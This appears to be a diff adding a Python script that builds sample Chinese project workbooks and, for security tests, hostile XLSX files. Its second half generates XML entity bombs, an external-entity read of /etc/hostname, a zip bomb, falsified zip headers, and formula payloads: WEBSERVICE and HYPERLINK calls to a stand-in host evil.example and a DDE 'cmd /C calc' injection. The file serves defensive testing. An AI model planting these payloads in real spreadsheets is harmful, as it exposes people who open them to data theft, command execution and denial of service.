@@ -1,0 +1,292 @@
+"""Build the workbooks in tests/data the way users make them, and hostile ones for the security tests.
+
+Run `python tests/data/make_workbooks.py` to rebuild the committed user workbooks; the hostile
+files are built on demand by the tests (some are large when inflated and are never committed).
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import re
+import struct
+import sys
+import zipfile
+from pathlib import Path
+
+from openpyxl import Workbook
+from openpyxl.styles import Font, PatternFill
+
+HERE = Path(__file__).resolve().parent
+
+
+# --- workbooks people make ------------------------------------------------------------------
+def system_with_title(path: Path) -> None:
+    """量化指标体系 as pasted from the seed: title and note rows, header on row 4, merged stage cells."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "指标体系"
+    ws["A1"] = "FlagOS 项目量化指标体系"
+    ws["A2"] = "核心逻辑：新增「具体行动」与「数据来源」维度"
+    ws.append([])
+    ws.append(["阶 段", "模块 ", "建设内容", "具体行动", "量化验收指标", "评估方法", "数据来源（出处）"])
+    rows = [
+        ("第一阶段（0-6 个月）：基础建设期", "技术产品", "1. 核心组件开发\n2. 多芯片适配", "1. FlagGEMs 迭代 3 个版本\n2. 签订适配协议",
+         "1. 适配 AI 芯片≥25 款\n2. 框架兼容通过率 100%", "第三方测试报告", "适配测试报告存档库"),
+        (None, "生态建设", "1. 开源基金会成立", "1. 提交注册材料", "1. 基金会完成注册", "注册证书", "基金会行政档案"),
+        ("第二阶段（6-18 个月）：生态规模化期", "技术产品", "1. 芯片适配扩容", "1. 新增海外小众芯片适配", "1. 适配 AI 芯片≥40 款", "测试报告", "存档库"),
+        (None, "生态建设", "1. 社区激励强化", "1. 制定贡献积分规则", "1. 核心开发者≥200 人", "GitHub 统计", "GitHub API"),
+    ]
+    for row in rows:
+        ws.append(list(row))
+    ws.merge_cells("A5:A6")
+    ws.merge_cells("A7:A8")
+    wb.save(path)
+
+
+def tasks_grouped(path: Path) -> None:
+    """阶段任务计划表 as the seed lays it out: a heading and a table per module, in one sheet."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "第一阶段任务"
+    header = ["任务ID", "建设内容", "具体行动", "起止时间", "责任角色", "依赖项", "里程碑", "风险应对"]
+    ws.append(["## 第一阶段（0-6个月）：基础建设期"])
+    ws.append(["3.1 技术产品模块"])
+    ws.append(header)
+    ws.append(["TP-01", "核心组件开发", "1. 迭代3版；\n2. 编译优化", "第1-8周", "算子组工程师×8、架构师×2", "无", "第8周完成内部测试", "启用备用方案"])
+    ws.append(["TP-02", "多芯片适配", "1. 签订协议", "第4-22周", "适配工程师×12、测试工程师×6", "TP-01核心组件开发完成", "第22周通过测试", ""])
+    ws.append(["TP-03", "框架兼容适配", "1. 接口对接", "W6-W12", "框架工程师×4", "TP-01核心组件开发完成", "", ""])
+    ws.append(["TP-04", "性能优化验证", "1. 压测", "第20周-第24周", "性能工程师×5", "TP-02、TP-03完成", "", ""])
+    ws.append([])
+    ws.append(["3.2 生态建设模块"])
+    ws.append(header)
+    ws.append(["EC-01", "开源基金会成立", "1. 提交材料", "第1-6周", "生态负责人×1、法务专员×2", "无", "", ""])
+    ws.append(["EC-04", "核心伙伴联动", "1. 招募企业", "第8-24周", "合作经理×6", "TP-02芯片适配完成30%", "", ""])
+    wb.save(path)
+
+
+def english_headers(path: Path) -> None:
+    """An English task list: dates as text in three styles, priorities as words and emoji, 50% as text."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "Tasks"
+    ws.append(["Task ID", "Task", "Start", "End", "Depends on", "Priority", "Progress", "Comments"])
+    ws.append(["DOC-01", "Restructure docs", "2025-01-27", "2025/02/10", "none", "High", "50%", "first"])
+    ws.append(["DOC-02", "Write API guide", "2025.02.11", "2025-03-10", "DOC-01", "🟡", 0.25, ""])
+    ws.append(["DOC-03", "Review", dt.date(2025, 3, 11), dt.date(2025, 3, 28), "DOC-02 SS+2d", "🟢低", "", ""])
+    wb.save(path)
+
+
+def returned_stats(path: Path) -> None:
+    """A returned statistics template: one value '待定', an added column, a formula someone typed."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "数据统计模板"
+    ws.append(["指标名称", "阶段目标", "本月实际值", "累计实际值", "达成率", "测试时间", "测试人员", "数据来源", "异常说明", "备注2"])
+    ws.append(["AI芯片适配数量", "25款（0-6月）", "5款", "15款", "60%", "2025-03-28", "测试组", "适配测试报告库", "无，按计划推进", "x"])
+    ws.append(["昇腾算子性能提升", "≥10%", "待定", "11.2%", "112%", "2025/03/28", "测试组", "FlagPerf平台", "新增3个优化算子", ""])
+    wb.save(path)
+
+
+def seed_stats(path: Path) -> None:
+    """The seed's 4.1 statistics table, filled in correctly."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "4.1 数据统计"
+    ws.append(["4.1 数据统计模板（技术产品模块示例）"])
+    ws.append(["指标名称", "阶段目标", "本月实际值", "累计实际值", "达成率", "测试时间", "测试人员", "数据来源", "异常说明"])
+    ws.append(["AI芯片适配数量", "25款（0-6月）", "5款", "15款", "60%", dt.date(2025, 3, 28), "测试组", "适配测试报告库", "无，按计划推进"])
+    ws.append(["昇腾算子性能提升", "≥10%", "11.2%", 0.112, 1.12, "2025.03.28", "测试组", "FlagPerf平台", "效果超预期"])
+    ws["E4"].number_format = "0%"
+    ws["D4"].number_format = "0.0%"
+    wb.save(path)
+
+
+def master_many_sheets(path: Path) -> None:
+    """A master file: division matrix, tasks, a hidden lists sheet, a notes sheet without tables."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "说明"
+    ws["A1"] = "本文件为项目总表，请勿修改表头"
+    div = wb.create_sheet("分工")
+    div.append(["模块", "责任团队", "协作团队", "决策人", "核心执行角色", "协作频率"])
+    div.append(["技术产品", "核心技术部（含算子组/编译组/适配组）", "质量测试部、运维部", "CTO/技术负责人", "组件开发工程师、适配工程师", "每周2次同步会"])
+    div.append(["生态建设", "生态发展部", "核心技术部、品牌公关部", "生态负责人", "社区运营", "每周1次同步会"])
+    tasks = wb.create_sheet("任务")
+    tasks.append(["模块", "任务ID", "建设内容", "起止时间", "依赖项", "优先级"])
+    tasks.append(["技术产品", "TP-01", "核心组件开发", "第1-8周", "无", "🔴高"])
+    tasks.append(["技术产品", "TP-02", "多芯片适配", "第4-22周", "TP-01", "中"])
+    tasks.append(["生态建设", "EC-01", "开源基金会成立", "第1-6周", "", "低"])
+    lists = wb.create_sheet("lists")
+    lists.append(["任务ID", "建设内容", "起止时间"])
+    lists.append(["ZZ-99", "should never be imported", "第1-2周"])
+    lists.sheet_state = "hidden"
+    wb.save(path)
+
+
+def junk_tail(path: Path, rows: int = 5000) -> None:
+    """A short task table followed by thousands of formatted but empty rows."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "任务"
+    ws.append(["任务ID", "建设内容", "起止时间"])
+    ws.append(["TP-01", "核心组件开发", "第1-8周"])
+    fill = PatternFill("solid", fgColor="FFFF00")
+    for r in range(3, rows + 3):
+        for c in range(1, 9):
+            ws.cell(r, c).fill = fill
+            ws.cell(r, c).font = Font(bold=True)
+    wb.save(path)
+
+
+USER_WORKBOOKS = {
+    "system_title_merged.xlsx": system_with_title,
+    "tasks_grouped_by_module.xlsx": tasks_grouped,
+    "english_headers.xlsx": english_headers,
+    "returned_stats_wrong_value.xlsx": returned_stats,
+    "seed_stats.xlsx": seed_stats,
+    "master_many_sheets.xlsx": master_many_sheets,
+    "junk_tail.xlsx": junk_tail,
+}
+
+
+# --- hostile files (built on demand) -----------------------------------------------------------
+def _base_xlsx() -> bytes:
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "任务"
+    ws.append(["任务ID", "建设内容", "起止时间"])
+    ws.append(["TP-01", "核心组件开发", "第1-8周"])
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def rewrite(base: bytes, replace: dict[str, bytes | None], add: dict[str, bytes] | None = None) -> bytes:
+    """A copy of a zip with some members replaced (None removes them) and some added."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            if info.filename in replace:
+                if replace[info.filename] is not None:
+                    dst.writestr(info.filename, replace[info.filename])
+            else:
+                dst.writestr(info.filename, src.read(info.filename))
+        for name, data in (add or {}).items():
+            dst.writestr(name, data)
+    return out.getvalue()
+
+
+def _sheet_xml(body: str, head: str = "", extra: str = "") -> bytes:
+    return (f'<?xml version="1.0" encoding="UTF-8"?>{head}<worksheet xmlns="http://schemas.openxmlformats.org/'
+            f'spreadsheetml/2006/main">{extra}<sheetData>{body}</sheetData></worksheet>').encode()
+
+
+_ROW1 = '<row r="1"><c r="A1" t="inlineStr"><is><t>任务ID</t></is></c><c r="B1" t="inlineStr"><is><t>建设内容</t></is></c><c r="C1" t="inlineStr"><is><t>起止时间</t></is></c></row>'
+
+
+def billion_laughs() -> bytes:
+    ents = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
+    body = _ROW1 + '<row r="2"><c r="A2" t="inlineStr"><is><t>&a9;</t></is></c></row>'
+    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body, f"<!DOCTYPE lolz [{ents}]>")})
+
+
+def external_entity(target: str = "file:///etc/hostname") -> bytes:
+    body = _ROW1 + '<row r="2"><c r="A2" t="inlineStr"><is><t>TP-09</t></is></c><c r="B2" t="inlineStr"><is><t>&x;</t></is></c></row>'
+    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body, f'<!DOCTYPE x [<!ENTITY x SYSTEM "{target}">]>')})
+
+
+def quadratic_blowup() -> bytes:
+    big = "A" * 100_000
+    body = _ROW1 + '<row r="2"><c r="A2" t="inlineStr"><is><t>' + "&big;" * 100_000 + "</t></is></c></row>"
+    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body, f'<!DOCTYPE x [<!ENTITY big "{big}">]>')})
+
+
+def zip_bomb(inflated_mb: int = 1024) -> bytes:
+    """A valid workbook whose sheet inflates to `inflated_mb` MB of empty rows (about 1 MB on disk)."""
+    out = io.BytesIO()
+    row = b'<row r="2"><c r="A2"><v>1</v></c></row>' * 1000
+    with zipfile.ZipFile(io.BytesIO(_base_xlsx())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
+        for info in src.infolist():
+            if info.filename != "xl/worksheets/sheet1.xml":
+                dst.writestr(info.filename, src.read(info.filename))
+        with dst.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
+            fh.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+            for _ in range(inflated_mb * 2**20 // len(row)):
+                fh.write(row)
+            fh.write(b"</sheetData></worksheet>")
+    return out.getvalue()
+
+
+def lying_sizes(data: bytes, fake: int = 1000) -> bytes:
+    """Patch every central-directory and local-header size to `fake` (declared sizes lie)."""
+    buf = bytearray(data)
+    for sig, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
+        for m in re.finditer(re.escape(sig), bytes(buf)):
+            pos = m.start() + offset
+            if struct.unpack_from("<I", buf, pos)[0] not in (0, 0xFFFFFFFF):
+                struct.pack_into("<I", buf, pos, fake)
+    return bytes(buf)
+
+
+def many_entries(count: int = 100_000) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(_base_xlsx())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
+        for info in src.infolist():
+            dst.writestr(info.filename, src.read(info.filename))
+        for i in range(count):
+            dst.writestr(f"xl/media/x{i}.bin", b"")
+    return out.getvalue()
+
+
+def dimension_lie() -> bytes:
+    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(_ROW1, extra='<dimension ref="A1:XFD1048576"/>')})
+
+
+def far_cell(ref: str = "XFD1048576") -> bytes:
+    row = re.sub(r"\d+", "", ref) and re.search(r"\d+", ref).group()
+    body = _ROW1 + f'<row r="{row}"><c r="{ref}"><v>1</v></c></row>'
+    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body)})
+
+
+def many_merges(count: int = 50_000) -> bytes:
+    merges = "".join(f'<mergeCell ref="A{2 * i + 3}:B{2 * i + 3}"/>' for i in range(count))
+    xml = _sheet_xml(_ROW1).replace(b"</worksheet>", f'<mergeCells count="{count}">{merges}</mergeCells></worksheet>'.encode())
+    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": xml})
+
+
+def formula_payloads() -> bytes:
+    """Input cells holding formulas with cached values, plus an external-link part."""
+    body = (_ROW1 + '<row r="2"><c r="A2" t="inlineStr"><is><t>TP-01</t></is></c>'
+            '<c r="B2" t="str"><f>HYPERLINK("http://evil.example/x","click")</f><v>click</v></c>'
+            '<c r="C2" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>第1-8周</v></c></row>'
+            '<row r="3"><c r="A3" t="inlineStr"><is><t>TP-02</t></is></c>'
+            '<c r="B3" t="str"><f>cmd|\' /C calc\'!A0</f><v>dde</v></c>'
+            '<c r="C3" t="inlineStr"><is><t>第2-3周</t></is></c></row>')
+    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body)},
+                   add={"xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'})
+
+
+def wrong_containers() -> dict[str, bytes]:
+    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+    base = _base_xlsx()
+    return {
+        "xls": ole + b"Workbook".ljust(512, b"\x00"),
+        "encrypted": ole + "EncryptedPackage".encode("utf-16-le").ljust(512, b"\x00"),
+        "xlsm": rewrite(base, {}, add={"xl/vbaProject.bin": b"\x00" * 16}),
+        "xlsb": rewrite(base, {}, add={"xl/workbook.bin": b"\x00" * 16}),
+        "csv": "任务ID,建设内容,起止时间\nTP-01,核心组件开发,第1-8周\n".encode(),
+        "empty": b"",
+        "truncated": base[: len(base) // 2],
+        "no_content_types": rewrite(base, {"[Content_Types].xml": None}),
+    }
+
+
+def main(folder: Path = HERE) -> None:
+    for name, build in USER_WORKBOOKS.items():
+        build(folder / name)
+        print(f"wrote {folder / name}")
+
+
+if __name__ == "__main__":
+    main(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
